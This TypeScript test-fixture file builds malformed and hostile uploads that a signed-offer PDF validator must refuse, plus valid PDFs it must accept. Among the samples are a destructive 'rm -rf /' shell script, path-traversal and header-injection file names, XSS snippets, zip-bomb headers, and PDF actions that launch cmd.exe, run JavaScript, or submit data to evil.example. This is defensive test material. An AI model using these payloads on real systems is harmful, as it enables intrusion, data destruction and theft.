import { SIGNED_UPLOAD_MAX_BYTES } from '@careers/contracts';
import fc from 'fast-check';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { stampSignedPdf } from '../pdf/signing.pdf';
import { renderOfferLetterPdf } from '../pdf/offer-letter.pdf';

/**
 * The upload corpus of T07 (≥ 200 crafted files that must be refused) and the valid PDFs that must pass,
 * built in memory. Test code only: the validator's unit tests run all of it, and so does the HTTP suite
 * (offers.uploads.test.ts) on both accept routes, but for the two names no browser can send.
 */

export const enc = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
export const cat = (...parts: (Uint8Array | string)[]): Uint8Array => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? enc(p) : p))));

/**
 * A PDF written by hand, with a correct cross-reference table, so the corpus can hold exactly the structures
 * pdf-lib would never write (an /Encrypt trailer, actions, odd headers and line ends).
 */
export function handmadePdf(options: { root?: string; catalogExtra?: string; trailerExtra?: string; extraObjects?: string[]; header?: string; eol?: string; pages?: number } = {}): Uint8Array {
  const eol = options.eol ?? '\n';
  const pages = options.pages ?? 1;
  const kids = Array.from({ length: pages }, (_, i) => `${3 + i} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    ...Array.from({ length: pages }, () => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>`),
    ...(options.extraObjects ?? []),
  ];
  let body = `${options.header ?? '%PDF-1.4'}${eol}%\xe2\xe3\xcf\xd3${eol}`;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj${eol}${object}${eol}endobj${eol}`;
  });
  const xref = body.length;
  body += `xref${eol}0 ${objects.length + 1}${eol}0000000000 65535 f\r\n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n\r\n`;
  body += `trailer${eol}<< /Size ${objects.length + 1} /Root ${options.root ?? '1 0 R'} ${options.trailerExtra ?? ''} >>${eol}startxref${eol}${xref}${eol}%%EOF${eol}`;
  return enc(body);
}

export async function pdfLibPdf(options: { pages?: number; useObjectStreams?: boolean; size?: [number, number]; version?: string } = {}): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 0; i < (options.pages ?? 1); i++) {
    doc.addPage(options.size ?? [612, 792]).drawText(`Signed offer letter, page ${i + 1}`, { x: 50, y: 700, size: 14, font });
  }
  const bytes = await doc.save({ useObjectStreams: options.useObjectStreams ?? true });
  return options.version ? cat(`%PDF-${options.version}`, bytes.subarray(8)) : bytes;
}

/** A valid PDF of exactly `size` bytes: one page plus an unreferenced padding stream, sized to the byte. */
export async function pdfOfSize(size: number): Promise<Uint8Array> {
  const build = async (padding: number): Promise<Uint8Array> => {
    const doc = await PDFDocument.create();
    doc.addPage([612, 792]);
    doc.context.register(doc.context.stream(new Uint8Array(padding).fill(0x41)));
    return doc.save({ useObjectStreams: false });
  };
  let padding = size - 1000;
  for (let attempt = 0; attempt < 5; attempt++) {
    const bytes = await build(padding);
    if (bytes.length === size) return bytes;
    padding += size - bytes.length;
  }
  throw new Error(`could not build a PDF of ${size} bytes`);
}

/** Appends an incremental update whose trailer names an encryption dictionary. */
function withEncryptUpdate(base: Uint8Array, encrypt: string): Uint8Array {
  const text = Buffer.from(base).toString('latin1');
  const prev = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1] ?? '0';
  const at = base.length;
  const update = `50 0 obj\n${encrypt}\nendobj\n`;
  const xref = at + update.length;
  return cat(base, update, `xref\n50 1\n${String(at).padStart(10, '0')} 00000 n\r\ntrailer\n<< /Size 51 /Root 1 0 R /Encrypt 50 0 R /Prev ${prev} >>\nstartxref\n${xref}\n%%EOF\n`);
}

const ENCRYPT_DICTS = [
  '<< /Filter /Standard /V 1 /R 2 /O <28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a> /U <28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a> /P -4 >>',
  '<< /Filter /Standard /V 2 /R 3 /Length 128 /O <0102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f20> /U <0102030405060708090a0b0c0d0e0f10000000000000000000000000000000000> /P -3904 >>',
  '<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <00> /U <00> /P -1028 >>',
  '<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <00> /U <00> /OE <00> /UE <00> /Perms <00> /P -1028 >>',
  '<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<3082>] >>',
];


export interface Sample {
  label: string;
  bytes: Uint8Array;
  filename: string;
}

export const VALID_NAME = 'signed-offer.pdf';

export interface UploadCorpus {
  /** A plain one-page PDF (xref table). */
  good: Uint8Array;
  malformed: Sample[];
  valid: Sample[];
}

export async function buildUploadCorpus(): Promise<UploadCorpus> {
  const good = await pdfLibPdf({ useObjectStreams: false });
  const goodObjStm = await pdfLibPdf({ useObjectStreams: true });
  const letter = await renderOfferLetterPdf({
    companyName: 'Acme Robotics', candidateName: 'Ada Lovelace', positionName: 'Analyst', salaryText: '$120,000 per year',
    startDate: new Date('2026-04-06T00:00:00Z'), managerName: 'Grace Hopper', offerId: 'o1', issuedAt: new Date('2026-03-01T00:00:00Z'),
  });
  const signed = await stampSignedPdf({
    original: letter, signerName: 'Ada Lovelace', signerEmail: 'ada@acme.example', signedAt: new Date('2026-03-02T00:00:00Z'), ip: '127.0.0.1',
    userAgent: 'test', offerId: 'o1', documentId: 'd1', method: 'inline', consentText: 'I agree.', consentVersion: 'v1',
  });

  const malformed: Sample[] = [];
  const add = (label: string, bytes: Uint8Array, filename = VALID_NAME): void => {
    malformed.push({ label, bytes, filename });
  };

  // Wrong magic: random bytes (never starting with "%PDF-").
  fc.sample(fc.uint8Array({ minLength: 1, maxLength: 4096 }), { numRuns: 30, seed: 7 }).forEach((bytes, i) => {
    add(`random ${i}`, bytes[0] === 0x25 ? cat('x', bytes) : bytes);
  });
  // Renamed executables and scripts.
  const programs: Record<string, string> = {
    elf64: '\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00',
    elf32: '\x7fELF\x01\x01\x01\x00',
    pe: 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.',
    machO64: '\xcf\xfa\xed\xfe\x07\x00\x00\x01',
    machO32: '\xce\xfa\xed\xfe\x07\x00\x00\x00',
    machOBig: '\xfe\xed\xfa\xcf\x00\x00\x00\x07',
    fat: '\xca\xfe\xba\xbe\x00\x00\x00\x02',
    shell: '#!/bin/sh\nrm -rf / --no-preserve-root\n',
    python: '#!/usr/bin/env python3\nimport os\n',
  };
  for (const [kind, header] of Object.entries(programs)) {
    add(`program ${kind}`, cat(header, new Uint8Array(512).fill(0x90)));
    add(`program ${kind} with a PDF inside`, cat(header, good));
  }
  // Truncated PDFs: cut at 30 points, including one byte short of the end of %%EOF.
  fc.sample(fc.integer({ min: 6, max: good.length - 8 }), { numRuns: 28, seed: 11 }).forEach((cut) => add(`truncated at ${cut}`, good.subarray(0, cut)));
  add('truncated inside %%EOF', good.subarray(0, good.length - 3));
  add('truncated object-stream PDF', goodObjStm.subarray(0, Math.floor(goodObjStm.length * 0.9)));
  add('truncated signed letter', signed.signedPdf.subarray(0, signed.signedPdf.length - 200));
  // Encrypted PDFs: /Encrypt in the trailer, inline or referenced, in the file or in an update, or dangling.
  ENCRYPT_DICTS.forEach((dict, i) => {
    add(`encrypted handmade ${i}`, handmadePdf({ extraObjects: [dict], trailerExtra: `/Encrypt ${4} 0 R /ID [<0a0b> <0a0b>]` }));
    add(`encrypted inline ${i}`, handmadePdf({ trailerExtra: `/Encrypt ${dict} /ID [<0a0b> <0a0b>]` }));
    add(`encrypted update ${i}`, withEncryptUpdate(good, dict));
  });
  add('encrypted dangling reference', handmadePdf({ trailerExtra: '/Encrypt 99 0 R' }));
  add('encrypted update on object streams', withEncryptUpdate(goodObjStm, ENCRYPT_DICTS[1] as string));
  // Empty and nearly empty.
  add('empty', new Uint8Array(0));
  for (const text of [' ', '\n\n\n', '\0\0\0\0', '%PDF-', '%PDF-1.7', '%PDF-1.7\n%%EOF', '%PDF-1.7\nstartxref\n0\n%%EOF\n']) add(`almost nothing ${JSON.stringify(text)}`, enc(text));
  // Too large by one byte.
  add('oversize by one byte', await pdfOfSize(SIGNED_UPLOAD_MAX_BYTES + 1));
  add('oversize garbage', new Uint8Array(SIGNED_UPLOAD_MAX_BYTES + 1));
  // Bad names on a perfectly good PDF.
  const badNames = [
    '../signed.pdf', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'a/../../b.pdf', '..', '.', '/', '\\', '',
    '%2e%2e%2fsigned.pdf', '%2E%2E%5Csigned.pdf', '..%c0%afsigned.pdf', '．．／signed.pdf', '..／..／x.pdf',
    'signed.pdf\u0000.exe', 'signed.pdf\r\nContent-Type: text/html', 'sig\tned.pdf', 'sig\u0007ned.pdf', 'del\u007f.pdf', 'next\u0085line.pdf',
    'gpj.exe\u202Efdp.pdf', 'invoice\u202Dpdf.exe', 'isolate\u2066x\u2069.pdf', 'mark\u200F.pdf', 'arabic\u061Cmark.pdf',
    '\ufeffsigned.pdf', 'lone\ud800half.pdf', 'lone\udfffhalf.pdf', 'non\uffffchar.pdf', `${'a'.repeat(300)}.pdf`,
  ];
  badNames.forEach((filename) => add(`bad name ${JSON.stringify(filename).slice(0, 40)}`, good, filename));
  // Archives and Office documents (a DOCX is a ZIP), including a "zip bomb" header declaring 4 GB.
  const zipEntry = (name: string, declared: number): Uint8Array => {
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(16, 18);
    header.writeUInt32LE(declared, 22);
    header.writeUInt16LE(name.length, 26);
    return cat(header, name, new Uint8Array(16).fill(0x4b));
  };
  for (const name of ['[Content_Types].xml', 'word/document.xml', 'xl/workbook.xml', 'mimetype', 'bomb.bin']) {
    add(`zip ${name}`, zipEntry(name, name === 'bomb.bin' ? 0xffffffff : 1024));
    add(`zip ${name} renamed .docx`, zipEntry(name, 1024), 'offer.docx');
  }
  add('empty zip', enc('PK\x05\x06' + '\0'.repeat(18)));
  add('ole2 .doc', cat('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(512)));
  add('gzip', cat('\x1f\x8b\x08\x00', new Uint8Array(64)));
  add('rar', enc('Rar!\x1a\x07\x00'));
  add('7z', enc("7z\xbc\xaf\x27\x1c"));
  // Web pages.
  for (const html of ['<!DOCTYPE html><html><body>offer</body></html>', '<html><script>alert(1)</script>', '  <script>fetch("/api")</script>', '\xef\xbb\xbf<!doctype html>', '<svg onload=alert(1)>', '<?xml version="1.0"?><x/>', '<HTML>', '<body onload=alert(1)>', '<iframe src=//evil>', '<head><meta http-equiv=refresh>']) {
    add(`html ${html.slice(0, 20)}`, enc(html));
  }
  // Images.
  for (const image of ['\xff\xd8\xff\xe0\0\x10JFIF', '\x89PNG\r\n\x1a\n', 'GIF89a\x01\0\x01\0', 'GIF87a', 'II*\0', 'MM\0*', 'RIFF\0\0\0\0WEBPVP8 ']) add(`image ${JSON.stringify(image).slice(1, 8)}`, cat(image, new Uint8Array(64)));
  // Polyglots: a PDF with something else before, inside its head, or after its end.
  add('pdf after a jpeg header', cat('\xff\xd8\xff\xe0', good));
  add('pdf after a gif header', cat('GIF89a', good));
  add('pdf after a zip', cat(zipEntry('a.txt', 16), good));
  add('pdf after a BOM', cat('\xef\xbb\xbf', good));
  add('pdf after a space', cat(' ', good));
  add('pdf after html', cat('<html>', good));
  add('html in the pdf head', cat('%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n', good.subarray(9)));
  add('svg in the pdf head', cat('%PDF-1.4\n%<svg onload=alert(1)>\n', good.subarray(9)));
  add('zip appended after %%EOF', cat(good, zipEntry('payload.exe', 1024)));
  add('html appended after %%EOF', cat(good, '<html><script>alert(1)</script></html>'));
  add('elf appended after %%EOF', cat(good, '\x7fELF\x02\x01\x01'));
  add('text appended after %%EOF', cat(good, 'trailing garbage'));
  // Wrong or damaged headers on otherwise good bytes.
  for (const header of ['%PDF-x.y', '%PDF1.7', '%pdf-1.7', '%FDP-1.7', '%PDF-3.0', '%PDF-.17', 'PDF-1.7\n']) add(`header ${header}`, cat(header, good.subarray(8)));
  // Correct magic and ending around garbage: nothing pdf-lib can read.
  fc.sample(fc.uint8Array({ minLength: 0, maxLength: 2048 }), { numRuns: 25, seed: 23 }).forEach((bytes, i) => {
    add(`garbage body ${i}`, cat('%PDF-1.7\n', bytes, '\nstartxref\n9\n%%EOF\n'));
  });
  add('catalog without pages', handmadePdf({ pages: 0 }));
  add('no catalog', enc('%PDF-1.4\n1 0 obj\n<< /Type /Font >>\nendobj\nxref\n0 2\n0000000000 65535 f\r\n0000000009 00000 n\r\ntrailer\n<< /Size 2 >>\nstartxref\n41\n%%EOF\n'));
  add('root is a number', handmadePdf({ root: '42' }));
  add('root points nowhere', handmadePdf({ root: '99 0 R' }));
  add('root is a page', handmadePdf({ root: '3 0 R' }));
  add('zero pages from pdf-lib', await (await PDFDocument.create()).save({ addDefaultPage: false }));
  // Active content: scripts, launch actions, attachments, forms that submit, even compressed or name-escaped.
  const actions = [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.print\\(\\)) >>] >> >>',
    '/Names << /EmbeddedFiles << /Names [(payload.exe) << /Type /Filespec /F (payload.exe) >>] >> >>',
    '/AcroForm << /Fields [] /XFA (<xdp/>) >>',
    '/AA << /WC << /S /JavaScript /JS (x) >> >>',
    '/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>',
    '/OpenAction << /S /ImportData /F (data.fdf) >>',
    '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>',
    '/OpenAction << /S /RichMedia >>',
  ];
  actions.forEach((extra, i) => add(`active content ${i}`, handmadePdf({ catalogExtra: extra })));
  // Issue 8: what passed before. Names as readers decode them (lowercase `#xx`, any case), actions on open
  // other than going to a page of the file, and nesting past the depth limit (refused, not judged clean).
  const evasions: Record<string, string> = {
    'lowercase-escaped JavaScript': '/OpenAction << /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>',
    'all-lowercase escapes': '/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (app.alert\\(1\\)) >>',
    'lowercase-escaped Launch': '/OpenAction << /S /#4caunch /F (cmd.exe) >>',
    'lowercase-escaped EmbeddedFiles': '/Names << /#45mbedded#46iles << /Names [] >> >>',
    'lowercase-escaped XFA': '/AcroForm << /Fields [] /#58#46#41 (<xdp/>) >>',
    'lowercase-escaped additional actions': '/#41#41 << /WC << /S /Named /N /Print >> >>',
    'uri on open': '/OpenAction << /S /URI /URI (https://evil.example/collect) >>',
    'escaped uri on open': '/OpenAction << /S /#55#52#49 /URI (https://evil.example/collect) >>',
    'uri after a goto on open': '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>',
    'uri in a next array on open': '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (https://evil.example/) >>] >>',
    'named action on open': '/OpenAction << /S /Named /N /Print >>',
    'remote go-to on open': '/OpenAction << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >>',
    'rendition on open': '/OpenAction << /S /Rendition /OP 0 >>',
    'rich media, escaped': '/OpenAction << /S /#52ich#4dedia >>',
    'nesting 65 deep': `/Deep ${'['.repeat(66)}${']'.repeat(66)}`,
    'script under 70 levels': `/Deep ${'<< /A '.repeat(70)}<< /S /JavaScript /JS (x) >>${' >>'.repeat(70)}`,
    'escaped script under 70 levels': `/Deep ${'['.repeat(70)}<< /S /#4aava#53cript >>${']'.repeat(70)}`,
  };
  for (const [label, extra] of Object.entries(evasions)) add(`evasion ${label}`, handmadePdf({ catalogExtra: extra }));
  add('evasion uri on open, indirect', handmadePdf({ catalogExtra: '/OpenAction 4 0 R', extraObjects: ['<< /S /URI /URI (https://evil.example/) >>'] }));
  add('evasion script on a page, lowercase-escaped', handmadePdf({ extraObjects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#6aava#73cript /JS (x) >> >>'], catalogExtra: '/Extra [4 0 R]' }));
  const hidden = await PDFDocument.create();
  hidden.addPage();
  hidden.catalog.set(PDFName.of('OpenAction'), hidden.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
  add('javascript inside an object stream', await hidden.save({ useObjectStreams: true }));
  const attached = await PDFDocument.create();
  attached.addPage();
  await attached.attach(new Uint8Array([0x4d, 0x5a]), 'payload.exe', { mimeType: 'application/octet-stream' });
  add('pdf-lib attachment', await attached.save());

  // ------------------------------------------------------------------ valid files
  const valid: Sample[] = [];
  const ok = (label: string, bytes: Uint8Array, filename = VALID_NAME): void => {
    valid.push({ label, bytes, filename });
  };
  ok('pdf-lib, xref table', good);
  ok('pdf-lib, object streams', goodObjStm);
  ok('pdf-lib, 3 pages', await pdfLibPdf({ pages: 3 }));
  ok('pdf-lib, 25 pages', await pdfLibPdf({ pages: 25 }));
  ok('A4', await pdfLibPdf({ size: [595.28, 841.89] }));
  ok('landscape', await pdfLibPdf({ size: [792, 612] }));
  ok('PDF 1.3 header', await pdfLibPdf({ version: '1.3' }));
  ok('PDF 2.0 header', await pdfLibPdf({ version: '2.0' }));
  ok('handmade', handmadePdf());
  ok('handmade, CRLF', handmadePdf({ eol: '\r\n' }));
  ok('handmade, CR', handmadePdf({ eol: '\r' }));
  ok('handmade, 4 pages', handmadePdf({ pages: 4 }));
  ok('opens at a page (destination)', handmadePdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' }));
  ok('opens at a page (GoTo action)', handmadePdf({ catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }));
  ok('a link to a web page (acts only when clicked)', handmadePdf({ extraObjects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://acme.example/) >> >>'], catalogExtra: '/Extra [4 0 R]' }));
  ok('nested 60 deep', handmadePdf({ catalogExtra: `/Deep ${'['.repeat(60)}${']'.repeat(60)}` }));
  ok('handmade with an info dictionary', handmadePdf({ extraObjects: ['<< /Title (Signed offer) /Author (Ada) >>'], trailerExtra: '/Info 4 0 R' }));
  ok('our offer letter', letter);
  ok('our signed letter (incremental updates)', signed.signedPdf);
  ok('trailing line ends and NULs after %%EOF', cat(good, '\r\n\n\0\0 '));
  ok('exactly at the size limit', await pdfOfSize(SIGNED_UPLOAD_MAX_BYTES));
  ok('Unicode name', good, 'Łukasz Żółć – podpisana oferta.pdf');
  ok('Japanese name', good, 'オファーレター（署名済み）.pdf');
  ok('emoji name', good, '✅ signed 👩‍💻.pdf');
  ok('old-browser path', good, 'C:\\fakepath\\signed offer.pdf');
  ok('no extension', good, 'scan');
  ok('wrong extension', good, 'signed-offer.txt');
  return { good, malformed, valid };
}
